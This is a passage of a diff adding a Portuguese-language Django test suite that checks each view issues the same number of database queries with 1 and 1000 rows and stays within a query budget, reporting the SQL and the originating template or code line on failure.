+        arquivo = quadro.f_code.co_filename
+        if codigo is None and arquivo.startswith(PASTA_APP) and arquivo != __file__:
+            codigo = f'{os.path.relpath(arquivo)}:{quadro.f_lineno} ({quadro.f_code.co_name})'
+        quadro = quadro.f_back
+    return codigo or 'origem desconhecida'
+
+
+@override_settings(PASSWORD_HASHERS=['django.contrib.auth.hashers.MD5PasswordHasher'])
+class OrcamentoConsultasTest(TestCase):
+    """
+    Cada view é medida com 1 e com 1000 linhas de produtos e pedidos: o
+    número de consultas tem que ser igual nos dois casos e caber no
+    orçamento. Na falha, lista o SQL e a linha de template (ou de código)
+    de cada consulta.
+    """
+    SENHA = 'senha-forte-123'
+
+    def setUp(self):
+        self.usuario = User.objects.create_user('orcamento', password=self.SENHA)
+        self.admin = User.objects.create_user('orcamento_admin', password=self.SENHA, is_staff=True)
+        self.linhas = 0
+
+    def _crescer_para(self, linhas):
+        """Completa produtos e pedidos do usuário até ``linhas`` de cada."""
+        novos = linhas - self.linhas
+        produtos = Produto.objects.bulk_create(
+            Produto(nome=f'Produto {i}', estoque=10 ** 6, preco=Decimal('9.90'), descricao='x')
+            for i in range(self.linhas, linhas)
+        )
+        Pedido.objects.bulk_create(
+            Pedido(usuario=self.usuario, produto=p, quantidade=1, total=p.preco) for p in produtos
+        )
+        self.linhas += novos
+        self.produto = Produto.objects.order_by('id').first()
+
+    def _requisitar(self, view, metodo):
+        cliente = Client()
+        if view in ('perfil', 'comprar', 'carrinho', 'finalizar_carrinho'):
+            cliente.force_login(self.usuario)
+        if view in ('carrinho', 'finalizar_carrinho'):
+            sessao = cliente.session
+            sessao[CHAVE_SESSAO] = {str(pk): 1 for pk in Produto.objects.order_by('id').values_list('pk', flat=True)[:3]}
+            sessao.save()
+        url = reverse(
+            'login' if view == 'site_login' else view,
+            args=[self.produto.pk] if view in ('comprar', 'api_produto') else [],
+        )
+        if view == 'buscar':
+            url += '?q=produto'
+        if metodo == 'GET':
+            return cliente, lambda: cliente.get(url)
+        dados = {
+            'comprar': {'quantidade': 1},
+            'finalizar_carrinho': {},
+            'site_login': {'username': self.usuario.username, 'password': self.SENHA},
+            'admin_login': {'username': self.admin.username, 'password': self.SENHA},
+        }[view]
+        return cliente, lambda: cliente.post(url, dados)
+
+    def _medir(self, view, metodo):
+        _, requisicao = self._requisitar(view, metodo)
+        # Cache frio e reserva por gravar: o orçamento vale para o pior caso
+        limpar_caches()
+        Reserva.objects.all().delete()
+
+        consultas = []
+
+        def registrar(execute, sql, params, many, context):
+            consultas.append((sql, origem_da_consulta()))
+            return execute(sql, params, many, context)
+
+        with connection.execute_wrapper(registrar):
+            resposta = requisicao()
+        self.assertLess(resposta.status_code, 400, f'{view} {metodo} respondeu {resposta.status_code}')
+        return consultas
+
+    @staticmethod
+    def _descrever(consultas):
+        return '\n'.join(
+            f'  {i}. {sql}\n     em {origem}' for i, (sql, origem) in enumerate(consultas, 1)
+        )
+
+    def _verificar(self, view, metodo):
+        orcamento = ORCAMENTO_CONSULTAS[(view, metodo)]
+        medicoes = {}
+        for linhas in (1, 1000):
+            self._crescer_para(linhas)
+            medicoes[linhas] = self._medir(view, metodo)
+
+        poucas, muitas = medicoes[1], medicoes[1000]
+        if len(muitas) != len(poucas):
+            self.fail(
+                f'{view} {metodo}: {len(poucas)} consultas com 1 linha, {len(muitas)} com 1000.\n'
+                f'Consultas com 1000 linhas:\n{self._descrever(muitas)}'
+            )
+        if len(muitas) > orcamento:
+            self.fail(
+                f'{view} {metodo}: {len(muitas)} consultas, orçamento de {orcamento}.\n'
+                f'{self._descrever(muitas)}'
+            )
+
+    def test_index(self):
+        self._verificar('index', 'GET')
+
+    def test_perfil(self):
+        self._verificar('perfil', 'GET')
+
+    def test_comprar(self):
+        self._verificar('comprar', 'GET')
+
+    def test_comprar_post(self):
+        self._verificar('comprar', 'POST')
+
+    def test_carrinho(self):
+        self._verificar('carrinho', 'GET')
+
+    def test_finalizar_carrinho(self):
+        self._verificar('finalizar_carrinho', 'POST')
+
+    def test_buscar(self):
+        self._verificar('buscar', 'GET')
+
+    def test_api_produtos(self):
+        self._verificar('api_produtos', 'GET')
+
+    def test_api_produto(self):
+        self._verificar('api_produto', 'GET')
+
+    def test_cadastro(self):
+        self._verificar('cadastro', 'GET')
+
+    def test_site_login(self):
+        self._verificar('site_login', 'GET')
+
+    def test_site_login_post(self):
+        self._verificar('site_login', 'POST')
+
+    def test_admin_login(self):
+        self._verificar('admin_login', 'GET')
+
+    def test_admin_login_post(self):
+        self._verificar('admin_login', 'POST')
+
+    def test_falha_mostra_sql_e_linha_do_template(self):
+        consultas = []
+
+        def registrar(execute, sql, params, many, context):
+            consultas.append((sql, origem_da_consulta()))
+            return execute(sql, params, many, context)
+
+        self._crescer_para(1)
+        pedido = Pedido.objects.get()
+        template = Template('{% for p in pedidos %}\n{{ p.produto.nome }}{% endfor %}')
+        with connection.execute_wrapper(registrar):
+            template.render(Context({'pedidos': [pedido]}))
+        self.assertEqual(len(consultas), 1)
+        self.assertIn('app_produto', consultas[0][0])
+        self.assertIn('linha 2: p.produto.nome', consultas[0][1])